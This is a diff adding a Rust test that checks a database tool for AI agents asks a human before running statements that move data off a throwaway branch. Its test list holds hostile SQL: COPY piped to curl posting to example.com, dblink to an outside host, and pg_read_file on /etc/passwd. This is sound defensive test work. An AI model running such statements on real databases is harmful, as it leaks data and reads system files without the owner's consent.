@@ -90,3 +90,47 @@ async fn a_reset_of_another_branch_asks_and_can_keep_what_was_there() {
         .await;
     assert!(main.to_string().contains("no parent"), "{main}");
 }
+
+#[tokio::test]
+async fn what_leaves_the_branch_asks_on_a_throwaway_too() {
+    let story = shop().await;
+    story.human().changes_to(Manner::Declines);
+    sql(&story, "main", "CREATE TABLE t (x int)").await;
+    story.shop("create_throwaway_branch", json!({"name": "try"})).await;
+    for statement in [
+        "COPY t TO PROGRAM 'curl -d @- http://example.com'",
+        "COPY t TO '/tmp/t'",
+        "SELECT dblink('host=example.com', 'SELECT 1')",
+        "SELECT pg_read_file('/etc/passwd')",
+        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
+        "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
+        "DORP TABLE t",
+    ] {
+        let before = story.human().asked().len();
+        for (tool, arguments) in [
+            ("run_sql", json!({"branch_id": "try", "sql": statement})),
+            (
+                "run_sql_transaction",
+                json!({"branch_id": "try", "statements": ["SELECT 1", statement]}),
+            ),
+        ] {
+            let refused = story.shop_fails(tool, arguments).await;
+            assert_eq!(refused["kind"], "declined", "{statement}: {refused}");
+            assert_eq!(refused["changed"], "nothing", "{statement}: {refused}");
+        }
+        assert_eq!(story.human().asked().len(), before + 2, "{statement}");
+    }
+    let asked = story.human().asked().len();
+    for statement in ["DELETE FROM t", "ALTER TABLE t DROP COLUMN x", "DROP TABLE t"] {
+        sql(&story, "try", statement).await;
+    }
+    assert_eq!(
+        story.human().asked().len(),
+        asked,
+        "what destroys on a throwaway asks nobody"
+    );
+    // Having a function isn't calling it.
+    let extension = json!({"project_id": "shop", "branch_id": "try", "sql": "CREATE EXTENSION IF NOT EXISTS dblink"});
+    let _ = story.answer("run_sql", extension).await;
+    assert_eq!(story.human().asked().len(), asked);
+}
